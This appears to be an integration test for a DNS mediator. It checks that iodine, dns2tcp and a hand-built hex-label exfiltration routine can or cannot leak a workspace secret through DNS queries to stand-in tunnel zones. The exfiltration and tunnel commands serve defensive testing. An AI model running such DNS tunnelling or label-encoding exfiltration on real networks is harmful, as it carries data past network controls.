// What gets out through names: iodine, dns2tcp and a tunnel of our own, from a fenced workspace whose only resolver is the mediator.
// Their servers run outside, and each tunnel is shown to work where no mediator stands between. What got out is what the
// resolver was asked below the tunnels' zones: nothing under exact names, and under a wildcard its budget of names.

import { type ChildProcess, spawn } from 'node:child_process'
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { hasUnbound } from '../support/dns/resolver.js'
import { UPLINK, WS } from '../support/lab/addresses.js'
import { command, must } from '../support/lab/command.js'
import type { Role } from '../support/lab/namespaces.js'
import { labSuite } from '../support/lab/suite.js'
import { type Mediate, type MediatedLab, openMediatedLab } from '../support/mediated-lab.js'

const IODINE_ZONE = 'iodine.tunnel.example'
const DNS2TCP_ZONE = 'dns2tcp.tunnel.example'
const SINK = 'sink.live.example'
/** Addresses of their own outside: the clients know port 53 only. */
const DNS2TCP_ADDRESS = '45.76.9.9'
const IODINE_ADDRESS = '45.76.9.10'
const STUBS = { [IODINE_ZONE]: `${IODINE_ADDRESS}@53`, [DNS2TCP_ZONE]: `${DNS2TCP_ADDRESS}@53` }
const BUDGET = 8
const SECRET = 'x7rQ'

labSuite('exfiltration through names', () => {
  const missing = ['/usr/sbin/iodined', '/usr/sbin/iodine', '/usr/bin/dns2tcpd', '/dev/net/tun'].filter(
    (path) => !existsSync(path),
  )
  if (!hasUnbound() || missing.length > 0) {
    it('needs unbound and tunnels', (context) => context.skip(`not installed: ${missing.join(', ') || 'unbound'}`))
    return
  }
  let at: MediatedLab
  let mediator: Mediate
  const folder = mkdtempSync(join(tmpdir(), 'sluice-tunnel-'))
  const children: ChildProcess[] = []
  beforeAll(async () => {
    at = await openMediatedLab('nftables', BUDGET, { stubs: STUBS, server: ['log-queries: yes'] })
    for (const own of [DNS2TCP_ADDRESS, IODINE_ADDRESS])
      await must(['ip', '-n', at.lab.namespace('out'), 'address', 'add', `${own}/32`, 'dev', 'lo'])
    const config = join(folder, 'dns2tcpd.conf')
    const lines = [
      `listen = ${DNS2TCP_ADDRESS}`,
      'port = 53',
      'user = nobody',
      'chroot = /tmp',
      `domain = ${DNS2TCP_ZONE}`,
      'resources = echo:127.0.0.1:7000',
    ]
    writeFileSync(config, `${lines.join('\n')}\n`)
    run('out', ['/usr/bin/dns2tcpd', '-F', '-f', config])
    run('out', ['/usr/sbin/iodined', '-f', '-c', '-P', SECRET, '-l', IODINE_ADDRESS, '10.77.0.1/27', IODINE_ZONE])
    await at.apply([{ host: 'git.lab.example', ports: [443] }])
    mediator = await at.mediate()
  }, 180_000)
  afterAll(async () => {
    for (const child of children) await ended(child)
    rmSync(folder, { recursive: true, force: true })
    await at.close()
  }, 60_000)

  function run(role: Role, argv: readonly string[]): ChildProcess {
    const child = spawn('ip', ['netns', 'exec', at.lab.namespace(role), ...argv], { stdio: 'ignore' })
    children.push(child)
    return child
  }
  const ended = (child: ChildProcess): Promise<void> =>
    new Promise((resolve) => {
      if (child.exitCode !== null || child.signalCode !== null) return resolve()
      child.once('exit', () => resolve())
      child.kill('SIGKILL')
    })
  const inside = (role: Role, ...argv: string[]) =>
    command(['ip', 'netns', 'exec', at.lab.namespace(role), 'timeout', '-s', 'KILL', '60', ...argv], {
      timeoutMs: 90_000,
    })
  /** Names below a zone that the resolver was asked since, each once, and the octets of what stood before the zone. */
  const out = (zone: string, since: number, by: string): { names: string[]; octets: number } => {
    const names = new Set<string>()
    for (const line of at.resolver.queries.slice(since)) {
      const [from, name = ''] = line.toLowerCase().split(' ')
      if (from === by && name.endsWith(`.${zone}.`)) names.add(name.slice(0, -zone.length - 2))
    }
    return { names: [...names], octets: [...names].reduce((sum, name) => sum + name.length, 0) }
  }
  let marks = 0
  /** How many questions have arrived, when what the resolver says about them has: a question of our own ends the list. */
  const asked = async (): Promise<number> => {
    const mark = `mark${++marks}.lab.example`
    await inside('node', 'dig', `@${UPLINK.out.v4}`, '+tries=1', '+time=20', mark)
    while (!at.resolver.queries.some((line) => line.includes(` ${mark}. `))) await sleep(20)
    return at.resolver.queries.length
  }
  /** What our own tunnel does: a file in labels, 30 octets each, one question after the other. */
  const push = async (role: Role, server: string, count: number, zone: string): Promise<string[]> => {
    const names = Array.from(
      { length: count },
      (_, i) => `${Buffer.from(`${i} secret of the workspace`).toString('hex')}.${zone}`,
    )
    const { stdout } = await inside(
      role,
      'dig',
      `@${server}`,
      '+tries=1',
      '+time=10',
      '+noall',
      '+comments',
      '+nocookie',
      ...names,
    )
    return [...stdout.matchAll(/status: (\w+)/g)].map(([, status = '']) => status)
  }
  const iodine = (role: Role, server: string) =>
    inside(role, '/usr/sbin/iodine', '-f', '-r', '-d', 'tun9', '-P', SECRET, '-T', 'A', server, IODINE_ZONE)
  const dns2tcp = async (role: Role, server: string): Promise<string> => {
    const { stdout, stderr } = await inside(role, '/usr/bin/dns2tcpc', '-z', DNS2TCP_ZONE, server)
    return `${stdout}${stderr}`
  }

  it('each tunnel works where no mediator stands between', async () => {
    const since = await asked()
    expect(await push('node', UPLINK.out.v4, 10, SINK)).toEqual(new Array(10).fill('NOERROR'))
    await asked()
    expect(out(SINK, since, UPLINK.node.v4).names).toHaveLength(10)
    // Its server does not answer everybody who comes first.
    let heard = ''
    for (let tries = 0; tries < 10 && !heard.includes('echo'); tries++) heard = await dns2tcp('node', DNS2TCP_ADDRESS)
    expect(heard).toMatch(/echo/)
    const tunnel = run('node', [
      '/usr/sbin/iodine',
      '-f',
      '-r',
      '-d',
      'tun9',
      '-P',
      SECRET,
      '-T',
      'A',
      IODINE_ADDRESS,
      IODINE_ZONE,
    ])
    try {
      // With an address of its own on the tunnel, what is sent to the other end goes through it and no other way.
      const ready = async (): Promise<boolean> =>
        (await command(['ip', '-n', at.lab.namespace('node'), 'address', 'show', 'dev', 'tun9'])).stdout.includes(
          '10.77.',
        )
      while (
        !(await ready()) ||
        (await at.lab.ping('node', '10.77.0.1', { timeoutMs: 2_000 })).outcome !== 'answered'
      ) {
        if (tunnel.exitCode !== null) throw new Error(`iodine ended with ${tunnel.exitCode}`)
        await sleep(50)
      }
    } finally {
      await ended(tunnel)
    }
  }, 120_000)

  it('under exact names nothing gets out', async () => {
    const hosts = ['git.lab.example', SINK, IODINE_ZONE, DNS2TCP_ZONE]
    await mediator.listening(await at.apply(hosts.map((host) => ({ host, ports: [443] }))))
    const since = await asked()
    expect(await push('ws', WS.gateway4, 50, SINK)).toEqual(new Array(50).fill('REFUSED'))
    expect(await dns2tcp('ws', WS.gateway4)).not.toMatch(/echo/)
    expect((await iodine('ws', WS.gateway4)).stderr).not.toMatch(/Connection setup complete/)
    await asked()
    for (const zone of [SINK, IODINE_ZONE, DNS2TCP_ZONE])
      for (const by of [UPLINK.node.v4, WS.v4]) expect(out(zone, since, by), zone).toEqual({ names: [], octets: 0 })
    // The granted name itself still resolves, and its letters carry nothing: it goes out in lower case, or mixed by the node.
    expect((await at.dig('GIT.lab.EXAMPLE')).status).toBe('NOERROR')
  }, 240_000)

  it('under a wildcard no more gets out than its budget of names, and the mediator says so', async () => {
    const hosts = [`*.${SINK}`, `**.${IODINE_ZONE}`, `**.${DNS2TCP_ZONE}`]
    await mediator.listening(
      await at.apply(
        hosts.map((host) => ({ host, ports: [443] })),
        { delegate: ['shared-address'] },
      ),
    )
    const since = await asked()
    const statuses = await push('ws', WS.gateway4, 50, SINK)
    expect(statuses).toEqual([...new Array(BUDGET).fill('NOERROR'), ...new Array(50 - BUDGET).fill('REFUSED')])
    expect(await dns2tcp('ws', WS.gateway4)).not.toMatch(/echo/)
    expect((await iodine('ws', WS.gateway4)).stderr).not.toMatch(/Connection setup complete/)
    await asked()
    expect(out(SINK, since, UPLINK.node.v4).names).toHaveLength(BUDGET)
    for (const zone of [IODINE_ZONE, DNS2TCP_ZONE])
      expect(out(zone, since, UPLINK.node.v4).names.length, zone).toBeLessThanOrEqual(BUDGET)
    const moved = Object.fromEntries(
      [SINK, IODINE_ZONE, DNS2TCP_ZONE].map((zone) => [zone, out(zone, since, UPLINK.node.v4).octets]),
    )
    const report = await mediator.stop()
    // What it says was spent is what the resolver has seen.
    const { labels } = report as unknown as { labels: { pattern: string; names: number; octets: number }[] }
    expect(labels.find(({ pattern }) => pattern === `*.${SINK}`)).toMatchObject({
      names: BUDGET,
      octets: moved[SINK],
    })
    process.stdout.write(`octets under wildcards of ${BUDGET} names: ${JSON.stringify(moved)}\n`)
  }, 240_000)
})
